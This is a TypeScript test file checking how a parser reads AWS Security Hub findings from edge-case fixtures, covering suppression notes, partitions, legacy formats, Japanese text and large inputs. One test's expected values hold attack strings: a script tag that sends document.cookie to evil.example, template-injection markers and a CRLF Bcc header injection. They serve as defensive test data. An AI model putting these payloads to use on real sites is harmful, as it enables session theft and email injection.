/** Our own edge cases (fixtures/edge/): each file changes one thing; each test checks that thing. */
import { describe, expect, it } from 'vitest';
import type { Finding } from '../../../functions/core/finding/model.js';
import { decodeInput } from '../../../functions/core/input/decode.js';
import { readEvent } from '../../../functions/core/input/read-event.js';
import { readFixture } from '../../support/fixtures.js';

function only(file: string): Finding {
  const name = `fixtures/edge/${file}`;
  const results = decodeInput(readFixture(name), name).flatMap((event) => {
    const content = readEvent(event, name);
    return content.kind === 'findings' ? content.findings : [];
  });
  const [result, ...rest] = results;
  if (result === undefined || rest.length > 0) throw new Error(`${name}: expected exactly one finding`);
  if (!result.ok) throw result.error;
  return result.finding;
}

describe('edge fixtures', () => {
  it('workflow SUPPRESSED, with the note that says why', () => {
    const f = only('workflow-suppressed-with-note-bare.json');
    expect([f.workflowStatus, f.note]).toEqual([
      'SUPPRESSED',
      {
        text: 'Accepted risk: public website bucket, reviewed by the security team.',
        updatedBy: 'security-team',
        updatedAt: '2024-05-02T10:00:00.000Z',
      },
    ]);
  });

  it('record state ARCHIVED', () => {
    expect(only('record-state-archived-event.json').recordState).toBe('ARCHIVED');
  });

  it('compliance NOT_AVAILABLE with its reason', () => {
    const f = only('compliance-not-available-bare.json');
    expect([f.compliance?.status, f.compliance?.reasons.map((r) => r.code)]).toEqual(['NOT_AVAILABLE', ['CONFIG_ACCESS_DENIED']]);
  });

  it('no Remediation gives no remediation', () => {
    expect(only('no-remediation-bare.json').remediation).toBeUndefined();
  });

  it('markup everywhere: text kept as data, every non-http(s) URL dropped', () => {
    const f = only('markup-in-every-text-field-event.json');
    // The model keeps text verbatim: escaping is the renderer's job, where the context is known.
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal ${...} is the attack text under test
    expect(f.title).toBe('<script>alert("title")</script> {{title}} ${title}\r\nBcc: victim@example.com');
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal ${...} is the attack text under test
    expect(f.remediation).toEqual({ text: '<script>fetch("https://evil.example/?c="+document.cookie)</script> Fix ${it}' });
    expect(f.sourceUrl).toBeUndefined();
    expect(f.vulnerabilities[0]?.referenceUrls).toEqual(['https://nvd.nist.gov/vuln/detail/CVE-2024-0001']);
    // Detail lines are single lines even when a value holds CR/LF.
    expect(f.resources[0]?.details).toContain('multi: line1 line2');
    for (const line of f.resources[0]?.details ?? []) expect(line).not.toMatch(/[\r\n]/);
  });

  it('a 300-character title is kept whole (templates bound what they show)', () => {
    expect(Array.from(only('title-300-characters-bare.json').title)).toHaveLength(300);
  });

  it('a ~20 KB description is kept whole', () => {
    expect(only('description-20kb-bare.json').description.length).toBeGreaterThan(20_000);
  });

  it('300 resources are all kept, each with a bounded details summary', () => {
    const f = only('resources-300-bare.json');
    expect(f.resources).toHaveLength(300);
    expect(new Set(f.resources.map((r) => r.id)).size).toBe(300);
    f.resources.forEach((r, i) => {
      const groupId = `sg-${i.toString(16).padStart(17, '0')}`;
      expect([r.id.endsWith(groupId), r.details]).toEqual([
        true,
        [`GroupName: edge-sg-${i}`, `GroupId: ${groupId}`, 'VpcId: vpc-0123456789abcdef0'],
      ]);
    });
  });

  it('Japanese text survives as is', () => {
    const f = only('japanese-text-bare.json');
    expect(f.title).toBe('3.4 IAM ポリシーの変更に対するログメトリクスフィルタとアラームが存在することを確認する');
    expect(f.compliance?.reasons[0]?.description).toBe('必要な設定のマルチリージョン CloudTrail がアカウントに存在しません');
    expect(f.resources[0]?.tags).toEqual({ 担当: '基盤チーム' });
  });

  it('aws-cn: partition and the console.amazonaws.cn link', () => {
    const f = only('partition-aws-cn-event.json');
    expect([f.partition, f.region]).toEqual(['aws-cn', 'cn-north-1']);
    expect(
      f.consoleUrl?.startsWith('https://cn-north-1.console.amazonaws.cn/securityhub/home?region=cn-north-1#/findings?search=Id%3D'),
    ).toBe(true);
  });

  it('aws-us-gov: partition and the console.amazonaws-us-gov.com link', () => {
    const f = only('partition-aws-us-gov-bare.json');
    expect([f.partition, f.region]).toEqual(['aws-us-gov', 'us-gov-west-1']);
    expect(
      f.consoleUrl?.startsWith(
        'https://us-gov-west-1.console.amazonaws-us-gov.com/securityhub/home?region=us-gov-west-1#/findings?search=Id%3D',
      ),
    ).toBe(true);
  });

  it('2019 shape: WorkflowState DEFERRED reads as SUPPRESSED, Normalized 75 as HIGH, no RecordState as ACTIVE', () => {
    const f = only('legacy-deferred-normalized-only-bare.json');
    expect([f.workflowStatus, f.severity, f.severityScore, f.recordState]).toEqual(['SUPPRESSED', 'HIGH', 75, 'ACTIVE']);
  });

  it('legacy detail-type "Security Hub Findings" reads as Imported', () => {
    const name = 'fixtures/edge/legacy-detail-type-security-hub-findings-event.json';
    const [event] = decodeInput(readFixture(name), name);
    expect(event?.detailType).toBe('Security Hub Findings - Imported');
  });
});
